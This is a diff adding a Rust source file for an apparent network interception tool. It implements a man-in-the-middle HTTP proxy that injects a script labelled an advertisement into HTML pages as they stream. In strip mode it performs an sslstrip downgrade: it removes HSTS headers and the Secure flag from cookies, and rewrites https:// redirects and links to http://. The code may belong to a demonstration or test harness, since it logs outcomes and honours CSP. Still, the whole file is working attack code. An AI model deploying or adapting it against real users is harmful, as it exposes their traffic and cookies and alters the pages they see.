@@ -1,0 +1,312 @@
+//! The intruder's HTTP side: requests pass through (hyper on both sides), HTML responses
+//! get the advertisement injected while they stream, and in `strip` mode the visitor is
+//! kept on plain HTTP while the intruder talks HTTPS to the site.
+//!
+//! Hardening follows hyper's: a header-read timeout, header count and size limits;
+//! malformed framing (`Content-Length: +3`, overflowing chunk sizes) is refused by hyper's
+//! parser, and a request with both `Content-Length` and `Transfer-Encoding` is never
+//! forwarded as is (the length is dropped; hyper re-frames the body).
+
+use std::convert::Infallible;
+use std::io::Write;
+use std::net::SocketAddr;
+use std::pin::Pin;
+use std::sync::Arc;
+use std::task::{Context, Poll};
+use std::time::Duration;
+
+use bytes::Bytes;
+use http::{HeaderValue, Request, Response, StatusCode, header};
+use http_body::{Body, Frame};
+use http_body_util::BodyExt;
+use hyper::body::Incoming;
+use hyper_util::rt::{TokioIo, TokioTimer};
+use tokio::net::TcpStream;
+use tokio::sync::{Mutex, mpsc};
+
+use super::inject::{Injector, csp_blocks_inline};
+use super::{Ctx, Outcome, TlsMode};
+
+type Out = http_body_util::combinators::BoxBody<Bytes, Box<dyn std::error::Error + Send + Sync>>;
+
+/// A response body fed from a channel (the rewriter's output).
+struct ChannelBody(mpsc::Receiver<Bytes>);
+
+impl Body for ChannelBody {
+    type Data = Bytes;
+    type Error = Box<dyn std::error::Error + Send + Sync>;
+    fn poll_frame(mut self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Result<Frame<Bytes>, Self::Error>>> {
+        self.0.poll_recv(cx).map(|o| o.map(|b| Ok(Frame::data(b))))
+    }
+}
+
+/// How the intruder reaches the site.
+#[derive(Clone)]
+pub enum Upstream {
+    Plain,
+    /// HTTPS with this server name (strip, trusted mitm).
+    Tls(String),
+}
+
+/// Handles one intercepted plain-HTTP connection.
+pub async fn connection(client: TcpStream, ctx: Arc<Ctx>, upstream: Option<Upstream>) {
+    let peer = client.peer_addr().map(|a| a.to_string()).unwrap_or_default();
+    let dst = match super::original_dst(&client) {
+        Ok(d) => d,
+        Err(e) => {
+            eprintln!("inject: {peer}: {e:#}");
+            return;
+        }
+    };
+    // sslstrip: the visitor speaks HTTP to us, we speak HTTPS to the site.
+    let (dst, upstream) = match (ctx.opts.tls, upstream) {
+        (_, Some(u)) => (dst, u),
+        (TlsMode::Strip, None) => (SocketAddr::new(dst.ip(), 443), Upstream::Tls(String::new())),
+        _ => (dst, Upstream::Plain),
+    };
+    serve(TokioIo::new(client), peer, dst, upstream, ctx).await;
+}
+
+/// Serves HTTP to the visitor on `io`, forwarding to `dst`.
+pub async fn serve<I>(io: I, peer: String, dst: SocketAddr, upstream: Upstream, ctx: Arc<Ctx>)
+where
+    I: hyper::rt::Read + hyper::rt::Write + Unpin + Send + 'static,
+{
+    let sender: Arc<Mutex<Option<hyper::client::conn::http1::SendRequest<Incoming>>>> = Arc::new(Mutex::new(None));
+    let svc = hyper::service::service_fn(move |req| {
+        let ctx = ctx.clone();
+        let sender = sender.clone();
+        let peer = peer.clone();
+        let upstream = upstream.clone();
+        async move { Ok::<_, Infallible>(proxy(req, sender, ctx, peer, dst, upstream).await) }
+    });
+    let mut b = hyper::server::conn::http1::Builder::new();
+    b.timer(TokioTimer::new()).header_read_timeout(Duration::from_secs(10)).max_headers(64).max_buf_size(16 * 1024);
+    if let Err(e) = b.serve_connection(io, svc).await {
+        eprintln!("inject: client connection: {e}");
+    }
+}
+
+async fn connect(dst: SocketAddr, upstream: &Upstream, host: &str, ctx: &Ctx) -> Result<hyper::client::conn::http1::SendRequest<Incoming>, String> {
+    let tcp = tokio::time::timeout(Duration::from_secs(5), TcpStream::connect(dst))
+        .await
+        .map_err(|_| "connect timeout".to_string())?
+        .map_err(|e| e.to_string())?;
+    macro_rules! handshake {
+        ($io:expr) => {{
+            let (s, conn) = hyper::client::conn::http1::handshake(TokioIo::new($io)).await.map_err(|e| e.to_string())?;
+            tokio::spawn(async move {
+                let _ = conn.await;
+            });
+            s
+        }};
+    }
+    Ok(match upstream {
+        Upstream::Plain => handshake!(tcp),
+        Upstream::Tls(name) => {
+            let name = if name.is_empty() { host.split(':').next().unwrap_or(host).to_string() } else { name.clone() };
+            let sn = rustls_pki_types::ServerName::try_from(name).map_err(|e| e.to_string())?;
+            let tls = ctx.upstream_tls.connect(sn, tcp).await.map_err(|e| format!("upstream TLS: {e}"))?;
+            handshake!(tls)
+        }
+    })
+}
+
+fn error(status: StatusCode, msg: &str) -> Response<Out> {
+    let mut r = Response::new(http_body_util::Full::new(Bytes::from(msg.to_string())).map_err(|e| match e {}).boxed());
+    *r.status_mut() = status;
+    r
+}
+
+const HOP_BY_HOP: [&str; 7] = ["connection", "keep-alive", "proxy-connection", "te", "trailer", "upgrade", "proxy-authorization"];
+
+async fn proxy(
+    req: Request<Incoming>,
+    sender: Arc<Mutex<Option<hyper::client::conn::http1::SendRequest<Incoming>>>>,
+    ctx: Arc<Ctx>,
+    peer: String,
+    dst: SocketAddr,
+    upstream: Upstream,
+) -> Response<Out> {
+    let (mut parts, body) = req.into_parts();
+    let host = parts.headers.get(header::HOST).and_then(|h| h.to_str().ok()).unwrap_or("").to_string();
+    let url = format!("http://{host}{}", parts.uri.path_and_query().map(|p| p.as_str()).unwrap_or("/"));
+    let mut outcome = Outcome { kind: "http", client: peer, server: dst.to_string(), method: Some(parts.method.to_string()), url: Some(url), ..Outcome::default() };
+    for h in HOP_BY_HOP {
+        parts.headers.remove(h);
+    }
+    if parts.headers.contains_key(header::TRANSFER_ENCODING) {
+        parts.headers.remove(header::CONTENT_LENGTH);
+    }
+    let strip = matches!(upstream, Upstream::Tls(_)) && ctx.opts.tls == TlsMode::Strip;
+    let head_request = parts.method == http::Method::HEAD;
+    let req = Request::from_parts(parts, body);
+    let resp = {
+        let mut guard = sender.lock().await;
+        if guard.as_ref().is_none_or(|s| s.is_closed()) {
+            match connect(dst, &upstream, &host, &ctx).await {
+                Ok(s) => *guard = Some(s),
+                Err(e) => {
+                    outcome.outcome = "failed".into();
+                    outcome.detail = format!("cannot reach the site: {e}");
+                    ctx.record(outcome);
+                    return error(StatusCode::BAD_GATEWAY, "bad gateway");
+                }
+            }
+        }
+        let s = guard.as_mut().expect("connected above");
+        if s.ready().await.is_err() {
+            *guard = None;
+            return error(StatusCode::BAD_GATEWAY, "bad gateway");
+        }
+        s.send_request(req).await
+    };
+    let resp = match resp {
+        Ok(r) => r,
+        Err(e) => {
+            outcome.outcome = "failed".into();
+            outcome.detail = format!("the site's response was unreadable: {e}");
+            ctx.record(outcome);
+            return error(StatusCode::BAD_GATEWAY, "bad gateway");
+        }
+    };
+    let (mut parts, body) = resp.into_parts();
+    outcome.status = Some(parts.status.as_u16());
+    if strip {
+        strip_headers(&mut parts.headers);
+    }
+    let ct = parts.headers.get(header::CONTENT_TYPE).and_then(|v| v.to_str().ok()).unwrap_or("").to_ascii_lowercase();
+    let enc = parts.headers.get(header::CONTENT_ENCODING).and_then(|v| v.to_str().ok()).unwrap_or("identity").trim().to_ascii_lowercase();
+    let csp = parts.headers.get("content-security-policy").and_then(|v| v.to_str().ok()).map(str::to_string);
+    let skip = if !ct.contains("text/html") {
+        Some(format!("not HTML ({})", if ct.is_empty() { "no content type" } else { &ct }))
+    } else if head_request || parts.status == StatusCode::NO_CONTENT || parts.status == StatusCode::NOT_MODIFIED || parts.status.is_informational() {
+        Some("no body".to_string())
+    } else if csp.as_deref().is_some_and(csp_blocks_inline) {
+        Some("Content-Security-Policy would block the inline script".to_string())
+    } else if !matches!(enc.as_str(), "identity" | "gzip" | "x-gzip" | "deflate" | "br") {
+        Some(format!("unsupported content encoding {enc}"))
+    } else {
+        None
+    };
+    if let Some(reason) = skip {
+        outcome.outcome = if strip { "stripped".into() } else { "skipped".into() };
+        outcome.detail = if strip { format!("visitor kept on http; {reason}") } else { reason };
+        ctx.record(outcome);
+        return Response::from_parts(parts, body.map_err(|e| Box::new(e) as Box<dyn std::error::Error + Send + Sync>).boxed());
+    }
+    parts.headers.remove(header::CONTENT_LENGTH);
+    parts.headers.remove(header::CONTENT_ENCODING);
+    parts.headers.remove(header::ETAG);
+    let (tx, rx) = mpsc::channel::<Bytes>(8);
+    let ad = ctx.opts.ad.clone();
+    tokio::spawn(rewrite(body, enc, ad, strip, tx, outcome, ctx.clone()));
+    Response::from_parts(parts, ChannelBody(rx).boxed())
+}
+
+/// Drops what protects the visitor from a downgrade: HSTS, `Secure` cookies, https:// redirects.
+fn strip_headers(h: &mut http::HeaderMap) {
+    h.remove(header::STRICT_TRANSPORT_SECURITY);
+    if let Some(loc) = h.get(header::LOCATION).and_then(|l| l.to_str().ok()) {
+        if let Ok(v) = HeaderValue::from_str(&loc.replacen("https://", "http://", 1)) {
+            h.insert(header::LOCATION, v);
+        }
+    }
+    let cookies: Vec<String> = h.get_all(header::SET_COOKIE).iter().filter_map(|v| v.to_str().ok()).map(|c| c.split(';').filter(|a| !a.trim().eq_ignore_ascii_case("secure")).collect::<Vec<_>>().join(";")).collect();
+    h.remove(header::SET_COOKIE);
+    for c in cookies {
+        if let Ok(v) = HeaderValue::from_str(&c) {
+            h.append(header::SET_COOKIE, v);
+        }
+    }
+}
+
+/// Decodes, rewrites and forwards one HTML body, then records the outcome.
+async fn rewrite(mut body: Incoming, enc: String, ad: String, strip: bool, tx: mpsc::Sender<Bytes>, mut outcome: Outcome, ctx: Arc<Ctx>) {
+    enum Dec {
+        Plain,
+        Gzip(flate2::write::MultiGzDecoder<Vec<u8>>),
+        Deflate(flate2::write::ZlibDecoder<Vec<u8>>),
+        Br(Box<brotli_decompressor::DecompressorWriter<Vec<u8>>>),
+    }
+    let mut dec = match enc.as_str() {
+        "gzip" | "x-gzip" => Dec::Gzip(flate2::write::MultiGzDecoder::new(Vec::new())),
+        "deflate" => Dec::Deflate(flate2::write::ZlibDecoder::new(Vec::new())),
+        "br" => Dec::Br(Box::new(brotli_decompressor::DecompressorWriter::new(Vec::new(), 4096))),
+        _ => Dec::Plain,
+    };
+    let mut inj = Injector::new(&ad);
+    let mut sent = 0u64;
+    let mut failure: Option<String> = None;
+    let fix = |b: Vec<u8>| -> Bytes {
+        if strip { Bytes::from(String::from_utf8_lossy(&b).replace("https://", "http://")) } else { Bytes::from(b) }
+    };
+    while let Some(frame) = body.frame().await {
+        let data = match frame {
+            Ok(f) => match f.into_data() {
+                Ok(d) => d,
+                Err(_) => continue,
+            },
+            Err(e) => {
+                failure = Some(format!("site's body broke off: {e}"));
+                break;
+            }
+        };
+        let plain = match &mut dec {
+            Dec::Plain => Ok(data.to_vec()),
+            Dec::Gzip(d) => d.write_all(&data).and_then(|_| d.flush()).map(|_| std::mem::take(d.get_mut())),
+            Dec::Deflate(d) => d.write_all(&data).and_then(|_| d.flush()).map(|_| std::mem::take(d.get_mut())),
+            Dec::Br(d) => d.write_all(&data).and_then(|_| d.flush()).map(|_| std::mem::take(d.get_mut())),
+        };
+        let plain = match plain {
+            Ok(p) => p,
+            Err(e) => {
+                failure = Some(format!("cannot decode {enc}: {e}"));
+                break;
+            }
+        };
+        match inj.write(&plain) {
+            Ok(out) if !out.is_empty() => {
+                sent += out.len() as u64;
+                if tx.send(fix(out)).await.is_err() {
+                    failure = Some("visitor disconnected mid-body".into());
+                    break;
+                }
+            }
+            Ok(_) => {}
+            Err(e) => {
+                failure = Some(e.to_string());
+                break;
+            }
+        }
+    }
+    // What the decoder still holds.
+    let tail = match dec {
+        Dec::Plain => Vec::new(),
+        Dec::Gzip(d) => d.finish().unwrap_or_default(),
+        Dec::Deflate(d) => d.finish().unwrap_or_default(),
+        Dec::Br(d) => d.into_inner().unwrap_or_default(),
+    };
+    if failure.is_none() && !tail.is_empty() {
+        if let Ok(out) = inj.write(&tail) {
+            sent += out.len() as u64;
+            let _ = tx.send(fix(out)).await;
+        }
+    }
+    let injected = match inj.end() {
+        Ok((rest, injected)) => {
+            sent += rest.len() as u64;
+            let _ = tx.send(fix(rest)).await;
+            injected
+        }
+        Err(_) => false,
+    };
+    outcome.bytes_to_client = sent;
+    (outcome.outcome, outcome.detail) = match (failure, injected, strip) {
+        (Some(f), _, _) => ("failed".into(), f),
+        (None, true, true) => ("stripped".into(), "visitor kept on http: page read, links downgraded and ad injected".into()),
+        (None, true, false) => ("injected".into(), "advertisement inserted at the start of <body>".into()),
+        (None, false, _) => ("skipped".into(), "no <body> element".into()),
+    };
+    ctx.record(outcome);
+}
